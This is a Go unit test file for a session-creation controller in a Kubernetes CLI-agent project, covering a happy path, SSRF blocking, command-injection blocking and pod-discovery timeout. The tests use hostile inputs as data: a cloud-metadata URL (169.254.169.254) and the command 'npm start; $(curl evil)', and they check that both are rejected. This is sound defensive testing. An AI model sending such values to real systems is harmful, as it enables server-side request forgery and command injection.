package controller

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/labstack/echo/v4"
	"github.com/prometheus/client_golang/prometheus"
	log "github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/arakoodev/k8s-cli-agents/internal/apierror"
	"github.com/arakoodev/k8s-cli-agents/internal/capability"
	"github.com/arakoodev/k8s-cli-agents/internal/config"
	"github.com/arakoodev/k8s-cli-agents/internal/orchestrator/orchestratortest"
	"github.com/arakoodev/k8s-cli-agents/internal/store/storetest"
)

// newTestController builds a Controller wired to in-memory fakes, constructed
// directly (rather than via New) so tests never touch the global Prometheus
// registry, the way teacher's own unit tests substitute fakes for its
// resourcemanagers rather than exercising the full Master.Run wiring.
func newTestController(t *testing.T) (*Controller, *storetest.Fake, *orchestratortest.Fake) {
	t.Helper()

	cfg := config.DefaultControllerConfig()
	cfg.AllowedCodeDomains = []string{"github.com"}
	cfg.PodDiscoveryTimeoutSecs = 1

	st := storetest.New()
	orch := orchestratortest.New()

	kp, err := capability.GenerateKeyPair()
	require.NoError(t, err)
	signer := capability.NewSigner(kp, kp)

	ctl := &Controller{
		cfg:          cfg,
		store:        st,
		orchestrator: orch,
		signer:       signer,
		log:          log.WithField("component", "controller-test"),
		admissionTotal: prometheus.NewCounterVec(prometheus.CounterOpts{
			Name: "test_admission_total",
		}, []string{"result"}),
		discoveryLatency: prometheus.NewHistogram(prometheus.HistogramOpts{
			Name: "test_discovery_latency",
		}),
	}
	return ctl, st, orch
}

func createSessionRequestContext(t *testing.T, ownerID string, body createSessionRequest) (echo.Context, *httptest.ResponseRecorder) {
	t.Helper()
	bs, err := json.Marshal(body)
	require.NoError(t, err)

	e := echo.New()
	req := httptest.NewRequest(http.MethodPost, "/api/sessions", bytes.NewReader(bs))
	req.Header.Set(echo.HeaderContentType, echo.MIMEApplicationJSON)
	rec := httptest.NewRecorder()
	c := e.NewContext(req, rec)
	c.Set(callerKey, ownerID)
	return c, rec
}

// TestScenarioS1HappyPath mirrors spec section 8's S1: a valid request produces a
// session with a non-null podIp and a tokenId row, and the response carries a
// token that verifies.
func TestScenarioS1HappyPath(t *testing.T) {
	ctl, st, orch := newTestController(t)
	kp, err := capability.GenerateKeyPair()
	require.NoError(t, err)
	ctl.signer = capability.NewSigner(kp, kp)

	c, rec := createSessionRequestContext(t, "owner-1", createSessionRequest{
		CodeURL: "https://github.com/x/y.git",
		Command: "npm test",
	})

	// The orchestrator fake keys pod IPs by sessionId, which the handler only
	// generates internally, so a watcher goroutine seeds the IP as soon as the
	// job submission reveals it -- standing in for a pod reporting its IP
	// asynchronously after the job is created.
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			for _, spec := range orch.Jobs() {
				orch.SetPodIP(spec.SessionID, "wscli-run-1", "10.0.0.5")
				return
			}
			time.Sleep(time.Millisecond)
		}
	}()
	defer func() { <-done }()

	err = ctl.createSession(c)
	require.NoError(t, err)
	assert.Equal(t, http.StatusOK, rec.Code)

	var resp createSessionResponse
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
	assert.NotEmpty(t, resp.SessionID)
	assert.NotEmpty(t, resp.Token)
	assert.Equal(t, "/ws/"+resp.SessionID, resp.WsURL)

	row, err := st.GetSession(c.Request().Context(), resp.SessionID)
	require.NoError(t, err)
	require.NotNil(t, row.PodIP)
	assert.Equal(t, "10.0.0.5", *row.PodIP)

	claims, err := capability.Verify(resp.Token, "attach", capability.NewStaticKeySource([]*capability.KeyPair{kp}))
	require.NoError(t, err)
	assert.Equal(t, "owner-1", claims.Subject)
	assert.Equal(t, resp.SessionID, claims.SessionBinding)

	_, err = capability.Verify(resp.Token, "attach", capability.NewStaticKeySource([]*capability.KeyPair{}))
	assert.Error(t, err, "verifying against an empty key set must fail, proving the token really is signed")
}

// TestScenarioS4SSRFBlock mirrors spec section 8's S4: a codeUrl resolving to a
// link-local address is rejected before any session row or job is created.
func TestScenarioS4SSRFBlock(t *testing.T) {
	ctl, st, orch := newTestController(t)
	c, _ := createSessionRequestContext(t, "owner-1", createSessionRequest{
		CodeURL: "http://169.254.169.254/meta",
		Command: "npm test",
	})

	err := ctl.createSession(c)
	apiErr, ok := apierror.As(err)
	require.True(t, ok)
	assert.Equal(t, apierror.KindValidation, apiErr.Kind)
	assert.Empty(t, orch.Jobs())
	assert.Zero(t, st.SessionCount())
}

// TestScenarioS5InjectionBlock mirrors spec section 8's S5.
func TestScenarioS5InjectionBlock(t *testing.T) {
	ctl, _, orch := newTestController(t)
	c, _ := createSessionRequestContext(t, "owner-1", createSessionRequest{
		CodeURL: "https://github.com/x/y.git",
		Command: "npm start; $(curl evil)",
	})

	err := ctl.createSession(c)
	apiErr, ok := apierror.As(err)
	require.True(t, ok)
	assert.Equal(t, apierror.KindValidation, apiErr.Kind)
	assert.Empty(t, orch.Jobs())
}

// TestScenarioS6DiscoveryTimeout mirrors spec section 8's S6: the orchestrator
// never reports a pod IP, so createSession fails with a discovery-timeout error
// and no tokenId row is created.
func TestScenarioS6DiscoveryTimeout(t *testing.T) {
	ctl, st, _ := newTestController(t)
	c, _ := createSessionRequestContext(t, "owner-1", createSessionRequest{
		CodeURL: "https://github.com/x/y.git",
		Command: "npm test",
	})

	err := ctl.createSession(c)
	apiErr, ok := apierror.As(err)
	require.True(t, ok)
	assert.Equal(t, apierror.KindDiscoveryTimeout, apiErr.Kind)

	assert.Zero(t, st.TokenCount())
}
